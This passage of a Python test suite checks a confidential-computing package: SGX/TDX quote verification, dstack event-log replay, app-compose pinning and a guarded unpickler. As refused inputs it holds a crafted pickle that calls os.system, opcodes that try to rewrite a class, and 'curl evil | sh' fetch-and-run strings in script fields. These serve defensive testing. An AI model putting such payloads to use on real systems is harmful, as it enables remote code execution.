"""``metaflow_stack.confidential``'s trust decisions on real evidence: the public SGX and TDX quotes with
their collateral (dcap-qvl's sample set), verified at a pinned time inside the collateral's validity window,
then held to a policy and to this task's binding; every attack and mistake refused naming what failed; and
sealed artifacts with the real ``cryptography`` AES-GCM."""

from __future__ import annotations

import datetime
import hashlib
import json
import shutil
from pathlib import Path

import pytest
from confidential_samples import IDENTITY, PINNED, SAMPLES, SGX_MR_ENCLAVE, SGX_MR_SIGNER, SGX_POLICY
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from metaflow_stack.confidential.attest import (
    AttestationRefused,
    binding,
    cache_name,
    collateral_for,
    new_nonce,
    verify,
)
from metaflow_stack.confidential.cvm_variables import ENCRYPTED
from metaflow_stack.confidential.dstack_app import DSTACK_EVENT_TYPE, app_events, app_of, app_parts
from metaflow_stack.confidential.keyrelease import EnclaveKey, envelope_for, public_hex
from metaflow_stack.confidential.policy import load_policy, parse_policy
from metaflow_stack.confidential.seal import SealedError, is_sealed, new_data_key, seal, unseal
from metaflow_stack.errors import InvalidInput

TDX_MR_TD = "91eb2b44d141d4ece09f0c75c2c53d247a3c68edd7fafe8a3520c942a604a407de03ae6dc5f87f27428b2538873118b7"
#: The public TDX sample's kernel (RTMR1) and command line and root file system (RTMR2).
TDX_RT_MR1 = "0084452c01668329d4bc06acdf58a7205c26743304509973949e5619bf81a6a7aea8c323c173019b3093d54e579e9378"
TDX_RT_MR2 = "d833feef2cd945148aa38ead2c53e9b7f138190aaaebfc551dccd829fc207aa3ba80b70870d7330733642e01d48c3132"
#: A KMS's root CA public key (P-256, DER SubjectPublicKeyInfo, hex), as a dstack key-provider event names it.
KMS_CA = (
    ec.generate_private_key(ec.SECP256R1())
    .public_key()
    .public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    .hex()
)
#: The key-provider event of a VM whose disk key came from that KMS (dstack's KeyProviderInfo, compact JSON).
FROM_KMS = ("key-provider", json.dumps({"name": "kms", "id": KMS_CA}, separators=(",", ":")).encode().hex())
TDX_POLICY = f"""
[tdx]
mr_td = ["{TDX_MR_TD}"]
rt_mr3 = ["{"0" * 96}"]
"""


@pytest.fixture(scope="module")
def samples() -> Path:
    pytest.importorskip("dcap_qvl", reason="pip install 'metaflow-stack[confidential]'")
    return SAMPLES


def _evidence(samples: Path, name: str) -> tuple[bytes, object]:
    quote = (samples / name).read_bytes()
    return quote, collateral_for(quote, samples / f"{name}_collateral.json")


def _report_data(quote: bytes) -> bytes:
    import dcap_qvl

    return bytes(dcap_qvl.parse_quote(quote).report.report_data)


def test_a_genuine_sgx_quote_of_an_allowed_enclave_bound_to_its_task_is_trusted(samples: Path) -> None:
    quote, collateral = _evidence(samples, "sgx_quote")
    found = verify(quote, collateral, parse_policy(SGX_POLICY), _report_data(quote), now=PINNED)
    assert (found.tee, found.status) == ("sgx", "ConfigurationAndSWHardeningNeeded")
    assert found.advisory_ids == ["INTEL-SA-00289", "INTEL-SA-00615"]
    assert found.measurements["mr_enclave"] == SGX_MR_ENCLAVE and found.measurements["isv_svn"] == 0
    assert bytes.fromhex(found.report_data).startswith(b"Hello, world!")
    assert len(found.policy_digest) == 64 and found.verified_at == PINNED


def test_a_recorded_verification_is_read_back_as_the_agent_and_the_ui_show_it(samples: Path) -> None:
    """The launcher's record of a real verification (the public SGX quote's), read back as ``ConfidentialInfo``;
    a value that is not one (not JSON, not an object, too large, wrong types) reads as none, never an error."""
    import json

    from metaflow_stack.agent.models import ConfidentialInfo

    quote, collateral = _evidence(samples, "sgx_quote")
    verified = verify(quote, collateral, parse_policy(SGX_POLICY), _report_data(quote), now=PINNED)
    record = {"attested": True, "mode": "sgx", "policy": "prod", **verified.model_dump(), "mr_enclave": SGX_MR_ENCLAVE}
    shown = ConfidentialInfo.recorded(json.dumps(record))
    assert shown is not None and (shown.attested, shown.tee, shown.policy) == (True, "sgx", "prod")
    assert shown.status == "ConfigurationAndSWHardeningNeeded" and shown.measurements["mr_enclave"] == SGX_MR_ENCLAVE
    assert shown.policy_digest == parse_policy(SGX_POLICY).digest and shown.verified_at == PINNED
    for hostile in ("{", "[1, 2]", json.dumps({"attested": "maybe"}), "{" + " " * 70_000 + "}", None, 7):
        assert ConfidentialInfo.recorded(hostile) is None


def _global(module: str, name: str) -> bytes:
    """Pickle opcodes that push ``module.name`` (protocol 4's STACK_GLOBAL)."""
    return b"".join(b"\x8c" + bytes([len(t)]) + t for t in (module.encode(), name.encode())) + b"\x93"


def test_an_enclave_never_unpickles_a_crafted_input(monkeypatch: pytest.MonkeyPatch) -> None:
    """In an enclave, artifacts are read with ``inputs.guarded_loads``: a pickle that would call ``os.system``
    is refused before anything it names is looked up; plain data, sealed values, Metaflow's data holders and
    numpy arrays are read, and a class only when the enclave trusts it by its full name, as a class it
    defines; no pickle may rewrite a class."""
    import fractions
    import os
    import pickle

    import numpy
    from metaflow.tuple_util import ForeachFrame
    from sklearn.preprocessing import StandardScaler

    from metaflow_stack.confidential.inputs import TRUST, guarded_loads
    from metaflow_stack.confidential.seal import Sealed

    class Crafted:
        def __reduce__(self) -> tuple:
            return (os.system, ("touch /tmp/owned",))

    with pytest.raises(SealedError, match=r"an input needs posix\.system") as refused:
        guarded_loads(pickle.dumps(Crafted()))
    assert refused.value.fix == "make it in a confidential step (it arrives sealed)"  # never "trust os"
    sealed = Sealed(b"MFSEAL1\x00" + b"x" * 100, "F/1/s/2/name")
    frames = [ForeachFrame(step="s", var="items", num_splits=3, index=1, value="b")]
    plain = {"a": [1, 2.5, None, b"x", (True,)], "frames": frames, "sealed": sealed, "array": numpy.arange(4.0)}
    read = guarded_loads(pickle.dumps(plain, protocol=4))
    assert read["a"] == plain["a"] and read["frames"] == frames and read["sealed"].where == sealed.where
    assert read["array"].tolist() == [0.0, 1.0, 2.0, 3.0]

    class Forged:  # a Sealed rebuilt from something other than its bytes and place
        def __reduce__(self) -> tuple:
            return (Sealed, (123, "F/1/s/2/name"))

    with pytest.raises(SealedError, match="made of something else"):
        guarded_loads(pickle.dumps(Forged()))
    # The class pushed, then "built" with state that would replace its method for the whole process.
    rewrite = b"\x80\x04" + _global("metaflow_stack.confidential.seal", "Sealed") + b"N}\x8c\x04open"
    rewrite += _global("builtins", "range") + b"s\x86b."
    with pytest.raises(SealedError, match="state set on Sealed itself"):
        guarded_loads(rewrite)
    assert Sealed.open is not range
    with pytest.raises(SealedError, match=r"an input needs fractions\.Fraction") as refused:
        guarded_loads(pickle.dumps(fractions.Fraction(1, 3)))
    assert refused.value.fix == "make it in a confidential step (it arrives sealed)"  # Python's own: never trusted
    scaler = StandardScaler().fit([[1.0], [3.0]])
    scaler_name = "sklearn.preprocessing._data.StandardScaler"
    with pytest.raises(SealedError, match=f"an input needs {scaler_name}") as refused:
        guarded_loads(pickle.dumps(scaler))
    assert refused.value.fix.endswith(f"@confidential(trust=[{scaler_name!r}])")
    monkeypatch.setenv(TRUST, f"{scaler_name} fractions.Fraction tempfile.TemporaryDirectory tempfile._Random")
    assert guarded_loads(pickle.dumps(scaler)).mean_.tolist() == [2.0]
    assert guarded_loads(pickle.dumps(fractions.Fraction(1, 3))) == fractions.Fraction(1, 3)
    with pytest.raises(SealedError, match=r"an input needs posix\.system"):  # trusting one class is not all
        guarded_loads(pickle.dumps(Crafted()))
    for module, name in (("tempfile", "_os.system"), ("tempfile", "_Random")):  # reached through, or imported
        with pytest.raises(SealedError, match=f"an input needs tempfile.{name}"):
            guarded_loads(b"\x80\x04" + _global(module, name) + b".")
    assert (
        guarded_loads(b"\x80\x04" + _global("tempfile", "TemporaryDirectory") + b".").__name__ == "TemporaryDirectory"
    )


def test_trust_names_classes_and_never_pythons_or_the_frameworks_own() -> None:
    from metaflow_stack.confidential.inputs import check_trust

    name = "sklearn.linear_model._logistic.LogisticRegression"
    assert check_trust([name, name]) == (name,)
    wrongs = {"sklearn": "is not a class's full name", "os.system": "is in os, whose classes",
              "metaflow.flowspec.FlowSpec": "is in metaflow", "a..b": "is not a class's full name"}  # fmt: skip
    for wrong, says in wrongs.items():
        with pytest.raises(ValueError, match=says):
            check_trust([wrong])


def test_a_genuine_tdx_quote_is_held_to_its_mrtd_and_rtmrs(samples: Path) -> None:
    quote, collateral = _evidence(samples, "tdx_quote")
    found = verify(quote, collateral, parse_policy(TDX_POLICY), _report_data(quote), now=PINNED)
    assert (found.tee, found.status, found.measurements["mr_td"]) == ("tdx", "UpToDate", TDX_MR_TD)
    other = TDX_POLICY.replace(TDX_MR_TD, "ab" * 48)
    with pytest.raises(AttestationRefused, match=r"^tdx\.mr_td: 91eb2b.* is not one the policy allows"):
        verify(quote, collateral, parse_policy(other), _report_data(quote), now=PINNED)
    with pytest.raises(AttestationRefused, match=r"^tee: a TDX VM, and the policy has no \[tdx\] table"):
        verify(quote, collateral, parse_policy(SGX_POLICY), _report_data(quote), now=PINNED)


def _dstack_log(*events: tuple[str, str]) -> tuple[str, str]:
    """A dstack CVM's event log of runtime ``events`` (name, payload hex) after a boot event, and the RTMR3
    they replay to: each digest SHA-384 of the type (4 bytes, little-endian), ``:``, the name, ``:``, the
    payload; the register extended from zero."""
    register, entries = bytes(48), [{"imr": 0, "event_type": 1, "digest": "ab" * 48, "event": "", "event_payload": ""}]
    for name, payload in events:
        digest = hashlib.sha384(DSTACK_EVENT_TYPE.to_bytes(4, "little") + f":{name}:".encode() + bytes.fromhex(payload))
        register = hashlib.sha384(register + digest.digest()).digest()
        entries.append({"imr": 3, "event_type": DSTACK_EVENT_TYPE, "event": name, "event_payload": payload})
    return json.dumps(entries), register.hex()


def test_a_dstack_apps_compose_hash_is_read_from_an_event_log_that_replays_to_rtmr3(samples: Path) -> None:
    compose = "9a" * 32
    log, rt_mr3 = _dstack_log(("app-id", "11" * 20), ("compose-hash", compose), ("instance-id", "22" * 20))
    assert app_events(log, rt_mr3) == {"app-id": "11" * 20, "compose-hash": compose, "instance-id": "22" * 20}
    edited = log.replace(compose, "9b" * 32)  # another app's compose, in a log that otherwise is the CVM's
    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: does not replay to the quote's rt_mr3"):
        app_events(edited, rt_mr3)
    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: names compose-hash twice"):
        app_events(*_dstack_log(("compose-hash", compose), ("compose-hash", "9b" * 32)))
    for broken in ("{", "[1]", json.dumps([{"event_type": DSTACK_EVENT_TYPE}])):
        with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: is not dstack's event log"):
            app_events(broken, rt_mr3)
    # A genuine TDX quote held to a compose hash: the app must come from a log that replays to its RTMR3.
    quote, collateral = _evidence(samples, "tdx_quote")
    os_image = f"rt_mr1 = ['{TDX_RT_MR1}']\nrt_mr2 = ['{TDX_RT_MR2}']"
    pinned = parse_policy(
        f"[tdx]\nmr_td = ['{TDX_MR_TD}']\n{os_image}\ncompose_hash = ['{compose}']\nkms_ca_pubkey = ['{KMS_CA}']"
    )
    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: is needed to know the app"):
        verify(quote, collateral, pinned, _report_data(quote), now=PINNED)
    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: does not replay to the quote's rt_mr3"):
        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, event_log=log)
    empty, zero = _dstack_log()  # the sample's RTMR3 is all zeros: nothing was extended into it
    assert zero == "0" * 96
    with pytest.raises(AttestationRefused, match=r"^tdx\.compose_hash: the event log names none"):
        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, event_log=empty)


def _app_compose(**fields: object) -> tuple[str, str, str]:
    """An app compose as Phala builds it around a step's docker compose (``fields`` replace or add; None
    drops one), its bytes as the guest agent gives them; and the docker compose's and the script's SHA-256."""
    compose = json.dumps({"services": {"task": {"image": "stack/confidential@sha256:" + "ab" * 32}}})
    script = "#!/bin/bash\necho pre-launch\n"
    app = {"manifest_version": 2, "name": "mf-flow-score", "runner": "docker-compose", "docker_compose_file": compose,
           "allowed_envs": sorted(ENCRYPTED), "public_logs": False, "public_sysinfo": False, "kms_enabled": True,
           "pre_launch_script": script} | fields  # fmt: skip
    raw = json.dumps({k: v for k, v in app.items() if v is not None}, indent=4)
    return raw, hashlib.sha256(compose.encode()).hexdigest(), hashlib.sha256(script.encode()).hexdigest()


def _hash(text: str) -> str:
    return hashlib.sha256(text.encode(errors="surrogatepass")).hexdigest()


def test_a_steps_app_is_pinned_by_its_docker_compose_read_from_the_app_compose_the_event_log_measures(
    samples: Path,
) -> None:
    raw, compose, script = _app_compose()
    measured = _hash(raw)
    assert app_parts(raw, measured) == {"docker_compose": compose, "pre_launch_script": script}
    bare, _, _ = _app_compose(pre_launch_script=None, public_logs=None, allowed_envs=None, kms_enabled=None)
    assert app_parts(bare, _hash(bare))["pre_launch_script"] == hashlib.sha256().hexdigest()  # no script: ""
    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is not the one the event log measures"):
        app_parts(raw.replace("pre-launch", "exfiltrate"), measured)  # the script changed, the hash not
    refused = [
        ("tdx.app_compose.runner: is 'bash', not 'docker-compose'", _app_compose(runner="bash")[0]),
        ("tdx.app_compose.bash_script: runs code besides", _app_compose(bash_script="curl evil | sh")[0]),
        ("tdx.app_compose.init_script: runs code besides", _app_compose(init_script=["curl evil | sh"])[0]),
        ("tdx.app_compose.public_logs: is not false", _app_compose(public_logs=True)[0]),
        ("tdx.app_compose.public_sysinfo: is not false", _app_compose(public_sysinfo=0)[0]),
        ("tdx.app_compose.verity_volumes: is not a field known to run nothing", _app_compose(verity_volumes=[{}])[0]),
        ("tdx.app_compose.docker_compose_file: is not text", _app_compose(docker_compose_file=None)[0]),
        ("tdx.app_compose.pre_launch_script: is not text", _app_compose(pre_launch_script=0)[0]),
        # A variable the launcher never sends would reach the root script that starts the compose.
        (
            "tdx.app_compose.allowed_envs: names BASH_ENV, which no step's CVM",
            _app_compose(allowed_envs=["BASH_ENV"])[0],
        ),
        ("tdx.app_compose.allowed_envs: is not a list of names", _app_compose(allowed_envs="BASH_ENV")[0]),
        # The disk key from the host: any enclave it runs (local), or its TPM.
        ("tdx.app_compose.key_provider: is 'local'", _app_compose(key_provider="local")[0]),
        ("tdx.app_compose.key_provider: is 'tpm'", _app_compose(key_provider="tpm")[0]),
        (
            "tdx.app_compose.key_provider: is 'local'",
            _app_compose(kms_enabled=False, local_key_provider_enabled=True)[0],
        ),
        (
            "tdx.app_compose: gives runner twice",
            raw.replace('"runner": "docker-compose"', '"runner": "bash", "runner": "docker-compose"'),
        ),
        ("tdx.app_compose: is not UTF-8 text", raw.replace("mf-flow-score", "\ud800")),
        ("tdx.app_compose.docker_compose_file: is not UTF-8 text", raw.replace("stack/confidential", "\\ud800")),
    ]
    for says, text in refused:
        with pytest.raises(AttestationRefused) as caught:
            app_parts(text, _hash(text))
        assert str(caught.value).startswith(says), str(caught.value)
    made_inside, _, _ = _app_compose(key_provider="none")  # a disk key made in the VM
    assert app_parts(made_inside, _hash(made_inside))["docker_compose"] == compose
    for text, says in (("[1]", "is not a JSON object"), ("{", "is not JSON"), (" " * 300_000, "is larger than")):
        with pytest.raises(AttestationRefused, match=rf"^tdx\.app_compose: {says}"):
            app_parts(text, _hash(text))


def test_an_app_is_held_to_each_pin_once_its_event_log_replays_to_rtmr3() -> None:
    from metaflow_stack.confidential.policy import TdxPolicy

    raw, compose, script = _app_compose()
    boot = [("app-id", "11" * 20), ("compose-hash", _hash(raw)), ("instance-id", "22" * 20)]
    log, rt_mr3 = _dstack_log(*boot, FROM_KMS)
    os_image = {"mr_td": [TDX_MR_TD], "rt_mr1": [TDX_RT_MR1], "rt_mr2": [TDX_RT_MR2], "kms_ca_pubkey": [KMS_CA]}
    by_parts = TdxPolicy(**os_image, docker_compose=[compose], pre_launch_script=[script])
    found = {"compose_hash": _hash(raw), "disk_key": f"kms:{KMS_CA}", "docker_compose": compose,
             "pre_launch_script": script}  # fmt: skip
    assert app_of(by_parts, rt_mr3, log, raw) == found
    by_hash = TdxPolicy(**os_image, compose_hash=[_hash(raw)])
    assert app_of(by_hash, rt_mr3, log, None) == {"compose_hash": _hash(raw), "disk_key": f"kms:{KMS_CA}"}
    assert app_of(TdxPolicy(**os_image, rt_mr3=[rt_mr3]), rt_mr3, None, None) == {}  # no app pinned: no app read
    other = "9b" * 32
    wrong = {
        "tdx.docker_compose: " + compose: TdxPolicy(**os_image, docker_compose=[other], pre_launch_script=[script]),
        "tdx.pre_launch_script: " + script: TdxPolicy(**os_image, docker_compose=[compose], pre_launch_script=[other]),
        "tdx.compose_hash: " + _hash(raw): TdxPolicy(**os_image, compose_hash=[other]),
    }
    for says, rules in wrong.items():
        with pytest.raises(AttestationRefused) as caught:
            app_of(rules, rt_mr3, log, raw)
        assert str(caught.value).startswith(f"{says} is not one the policy allows"), str(caught.value)
    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is needed to know the app"):
        app_of(by_parts, rt_mr3, log, None)
    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is not the one the event log measures"):
        app_of(by_parts, rt_mr3, log, _app_compose(name="another-app")[0])


def _provider(name: str, key: object) -> tuple[str, str]:
    """A key-provider event naming ``name`` and ``key``, as dstack-util writes it."""
    return "key-provider", json.dumps({"name": name, "id": key}, separators=(",", ":")).encode().hex()


def test_an_apps_disk_key_comes_only_from_a_kms_the_policy_pins_or_from_inside_the_vm() -> None:
    """dstack takes the disk key from any KMS the VM is pointed at unless the app compose pins one; the key
    provider its event log records is what is checked."""
    from metaflow_stack.confidential.policy import TdxPolicy

    compose = "9a" * 32
    boot = [("app-id", "11" * 20), ("compose-hash", compose)]
    os_image = {"mr_td": [TDX_MR_TD], "rt_mr1": [TDX_RT_MR1], "rt_mr2": [TDX_RT_MR2], "compose_hash": [compose]}
    pinned, none_allowed = TdxPolicy(**os_image, kms_ca_pubkey=[KMS_CA]), TdxPolicy(**os_image, kms_ca_pubkey=[])
    # A key made inside the VM, with or without a KMS allowed; the pinned KMS.
    made_inside = _dstack_log(*boot, _provider("none", ""))
    for rules in (pinned, none_allowed):
        assert app_of(rules, made_inside[1], made_inside[0], None)["disk_key"] == "none"
    from_kms = _dstack_log(*boot, FROM_KMS)
    assert app_of(pinned, from_kms[1], from_kms[0], None)["disk_key"] == f"kms:{KMS_CA}"
    upper = _dstack_log(*boot, _provider("kms", KMS_CA.upper()))  # the same key, its hex in capitals
    assert app_of(pinned, upper[1], upper[0], None)["disk_key"] == f"kms:{KMS_CA}"
    another = KMS_CA[:-2] + ("00" if not KMS_CA.endswith("00") else "01")
    refused = [
        (pinned, _dstack_log(*boot), "tdx.key_provider: the event log names none"),
        (pinned, _dstack_log(*boot, _provider("kms", another)), f"tdx.kms_ca_pubkey: {another} is not one"),
        (none_allowed, from_kms, f"tdx.kms_ca_pubkey: {KMS_CA} gave the VM's disk key, and the policy allows no"),
        (pinned, _dstack_log(*boot, _provider("local-sgx", "ab" * 32)), "tdx.key_provider: is 'local-sgx': the"),
        (pinned, _dstack_log(*boot, _provider("tpm", "")), "tdx.key_provider: is 'tpm': the VM's disk key came"),
        (pinned, _dstack_log(*boot, ("key-provider", b"kms".hex())), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, _provider("kms", 7)), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, ("key-provider", b'{"name":"none","name":"kms","id":""}'.hex())),
         "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, ("key-provider", "ff")), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, _provider("none", "ab")), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, _provider("kms", "")), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, _provider("kms", "not hex")), "tdx.key_provider: is not dstack's record"),
        (pinned, _dstack_log(*boot, ("key-provider", b'["kms"]'.hex())), "tdx.key_provider: is not dstack's record"),
        # A field dstack does not write: a newer dstack may give it a meaning this check does not know.
        (pinned, _dstack_log(*boot, ("key-provider", json.dumps({"name": "kms", "id": KMS_CA, "url": "x"}).encode()
         .hex())), "tdx.key_provider: is not dstack's record"),
    ]  # fmt: skip
    for rules, (log, rt_mr3), says in refused:
        with pytest.raises(AttestationRefused) as caught:
            app_of(rules, rt_mr3, log, None)
        assert str(caught.value).startswith(says), str(caught.value)


def test_a_genuine_tdx_quote_pinned_by_docker_compose_needs_its_event_log(samples: Path) -> None:
    raw, compose, script = _app_compose()
    quote, collateral = _evidence(samples, "tdx_quote")
    pinned = parse_policy(
        f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr1 = ['{TDX_RT_MR1}']\nrt_mr2 = ['{TDX_RT_MR2}']\n"
        f"docker_compose = ['{compose}']\npre_launch_script = ['{script}']\nkms_ca_pubkey = []"
    )
    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: is needed to know the app \(the policy pins"):
        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, app_compose=raw)
    empty, _ = _dstack_log()  # (the sample's RTMR3 is all zeros: a log of no runtime events replays to it)
    with pytest.raises(AttestationRefused, match=r"^tdx\.compose_hash: the event log names none"):
        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, event_log=empty, app_compose=raw)


@pytest.mark.parametrize(
    ("attack", "field", "says"),
    [
        ("tampered", "quote", "is not genuine: ISV enclave report signature is invalid"),
        ("expired", "collateral", "is outside its validity window (CrlExpired"),
        ("tcb info expired", "collateral", "is outside its validity window (TCBInfo"),
        ("wrong measurement", "sgx.mr_enclave", "is not one the policy allows"),
        ("replayed", "report_data", "does not bind this task"),
        ("status not allowed", "tcb.status", "ConfigurationAndSWHardeningNeeded is not allowed"),
        ("advisory not allowed", "tcb.advisories", "INTEL-SA-00615 not allowed"),
        ("newer version required", "sgx.isv_svn", "0 is below 2"),
        ("truncated", "quote", "cannot be read"),
    ],
)
def test_each_attack_is_refused_naming_the_check(samples: Path, attack: str, field: str, says: str) -> None:
    quote, collateral = _evidence(samples, "sgx_quote")
    policy, expected, now = SGX_POLICY, _report_data(quote), PINNED
    if attack == "tampered":
        flipped = bytearray(quote)
        flipped[400] ^= 1
        quote = bytes(flipped)
    elif attack == "expired":
        now = int(datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC).timestamp())
    elif attack == "tcb info expired":  # the day after the TCB info's nextUpdate, before the CRL's
        now = int(datetime.datetime(2025, 7, 20, tzinfo=datetime.UTC).timestamp())
    elif attack == "wrong measurement":
        policy = SGX_POLICY.replace(SGX_MR_ENCLAVE, "00" * 32)
    elif attack == "replayed":  # the quote of an earlier launch, checked against this attempt's binding
        expected = binding(IDENTITY, new_nonce(), EnclaveKey().public)
    elif attack == "status not allowed":
        policy = SGX_POLICY.replace(', "ConfigurationAndSWHardeningNeeded"', "")
    elif attack == "advisory not allowed":
        policy = SGX_POLICY.replace(', "INTEL-SA-00615"', "")
    elif attack == "newer version required":
        policy = SGX_POLICY.replace("isv_prod_id = 0", "isv_prod_id = 0\nmin_isv_svn = 2")
    elif attack == "truncated":
        quote = quote[:40]
    with pytest.raises(AttestationRefused) as refused:
        verify(quote, collateral, parse_policy(policy), expected, now=now)
    assert refused.value.field == field and says in refused.value.message, refused.value.message
    assert "\n" not in str(refused.value)  # one line


def test_a_debug_enclave_is_refused_unless_the_policy_says_otherwise() -> None:
    """The public samples are production enclaves, and a flipped DEBUG bit breaks their signature first; the
    check runs here on the verified report's fields as dcap-qvl returns them."""
    from metaflow_stack.confidential.attest import _check_sgx

    measured = {"attributes": "0700000000000000e700000000000000", "mr_enclave": SGX_MR_ENCLAVE,
                "mr_signer": SGX_MR_SIGNER, "isv_prod_id": 0, "isv_svn": 0}  # fmt: skip
    with pytest.raises(AttestationRefused, match=r"^debug: a debug enclave"):
        _check_sgx(parse_policy(SGX_POLICY), measured)
    allowed = SGX_POLICY.replace("[tcb]", "[tcb]\nallow_debug = true")
    assert _check_sgx(parse_policy(allowed), measured)["mr_enclave"] == SGX_MR_ENCLAVE


def test_the_binding_changes_with_every_part_of_the_task() -> None:
    key = EnclaveKey().public
    base = binding(IDENTITY, "n1", key)
    assert len(base) == 64 and binding(IDENTITY, "n1", key) == base
    for field, value in IDENTITY.model_dump().items():
        changed = IDENTITY.model_copy(update={field: value + 1 if isinstance(value, int) else f"{value}x"})
        assert binding(changed, "n1", key) != base, field
    assert binding(IDENTITY, "n2", key) != base and binding(IDENTITY, "n1", EnclaveKey().public) != base
    assert binding(IDENTITY, "n1", key, work="other command") != base  # the work it was ordered is bound too
    assert new_nonce() != new_nonce()


def test_a_data_key_is_released_only_to_the_attested_enclaves_key_for_this_attempt() -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    keeper, host = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    data_key, enclave, scope = new_data_key(), EnclaveKey(), "sgx:prod@0123456789abcdef"
    bound = binding(IDENTITY, "n1", enclave.public)

    def takes_prod(found: str) -> bool:  # an enclave measured in SGX mode with the policy "prod"
        return found.startswith("sgx:prod@")

    envelope = envelope_for(data_key, enclave.public, bound, keeper, scope)
    assert data_key not in envelope and enclave.open(envelope, bound, public_hex(keeper), takes_prod) == data_key
    with pytest.raises(SealedError, match="made for another enclave or attempt"):
        EnclaveKey().open(envelope, bound, public_hex(keeper), takes_prod)  # the host, or another enclave
    with pytest.raises(SealedError, match="not signed by the enclave's key keeper"):
        enclave.open(envelope, binding(IDENTITY.model_copy(update={"attempt": 1}), "n1", enclave.public),
                     public_hex(keeper), takes_prod)  # fmt: skip
    # The host makes an envelope of its own, to a key it chose, for the enclave to seal with: not opened.
    forged = envelope_for(new_data_key(), enclave.public, bound, host, scope)
    with pytest.raises(SealedError, match="not signed by the enclave's key keeper"):
        enclave.open(forged, bound, public_hex(keeper), takes_prod)
    # The keeper's own envelope of another scope (a lenient policy's, or direct mode's key): not taken.
    for other in ("direct", "sgx:dev@0123456789abcdef"):
        with pytest.raises(SealedError, match=f"holds a key of scope '{other}', which this enclave does not take"):
            enclave.open(envelope_for(new_data_key(), enclave.public, bound, keeper, other), bound,
                         public_hex(keeper), takes_prod)  # fmt: skip
    relabelled = envelope[:66] + b"sgx:prod@fedcba9876543210" + envelope[66 + len(scope) :]
    with pytest.raises(SealedError, match="not signed by the enclave's key keeper"):  # the scope is signed
        enclave.open(relabelled, bound, public_hex(keeper), takes_prod)
    with pytest.raises(AttestationRefused, match=r"^enclave_key: is not a usable X25519 public key"):
        envelope_for(data_key, "zz", bound, keeper, scope)
    with pytest.raises(AttestationRefused, match=r"^enclave_key: is not a usable X25519 public key"):
        envelope_for(data_key, "00" * 32, bound, keeper, scope)  # a low-order point: every shared secret is zero


def test_an_enclave_takes_only_the_key_of_its_measured_mode_and_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    from metaflow_stack.confidential.inside import MODE, POLICY, accepts_scope

    monkeypatch.setenv(MODE, "sgx")
    monkeypatch.setenv(POLICY, "prod")
    assert accepts_scope("sgx:prod@0123") and not accepts_scope("direct") and not accepts_scope("sgx:dev@0123")
    assert not accepts_scope("sgx:production@0123")
    monkeypatch.setenv(MODE, "direct")
    assert accepts_scope("direct") and not accepts_scope("sgx:prod@0123")
    monkeypatch.delenv(MODE)
    assert not accepts_scope("direct")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[sgx]\nmr_enclave = ['abc']", "policy.sgx.mr_enclave[0]: String should match pattern"),
        ("[sgx]\nmr_enclave = []", "policy.sgx: pins neither mr_enclave nor mr_signer"),
        (
            f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\n[tcb]\nallowed_statuses = ['Fine']",
            "policy.tcb.allowed_statuses[0]",
        ),
        (f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\nsurprise = 1", "policy.sgx.surprise: Extra inputs"),
        ("[tdx]\nrt_mr0 = []", "policy.tdx.mr_td: Field required"),
        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']", "policy.tdx.docker_compose: is needed (or compose_hash, or rt_mr3)"),
        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ncompose_hash = ['{'9a' * 32}']", "policy.tdx.rt_mr1: and rt_mr2 are needed"),
        (
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['{'5f' * 32}']",
            "policy.tdx.pre_launch_script: is needed with docker_compose",
        ),
        (
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['{'5f' * 32}']\npre_launch_script = ['{'e3' * 32}']",
            "policy.tdx.rt_mr1: and rt_mr2 are needed",
        ),
        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['5f']", "policy.tdx.docker_compose[0]: String should"),
        (
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ncompose_hash = ['{'9a' * 32}']\npre_launch_script = ['{'e3' * 32}']",
            "policy.tdx.docker_compose: is needed with pre_launch_script",
        ),
        (
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr1 = ['{TDX_RT_MR1}']\nrt_mr2 = ['{TDX_RT_MR2}']\n"
            f"compose_hash = ['{'9a' * 32}']",
            "policy.tdx.kms_ca_pubkey: is needed with an app pinned",
        ),
        (
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr3 = ['{'00' * 48}']\nkms_ca_pubkey = []",
            "policy.tdx.kms_ca_pubkey: is checked only in an app pinned",
        ),
        (  # a public key of a type cryptography does not know (an OID of Microsoft's)
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr3 = ['{'00' * 48}']\n"
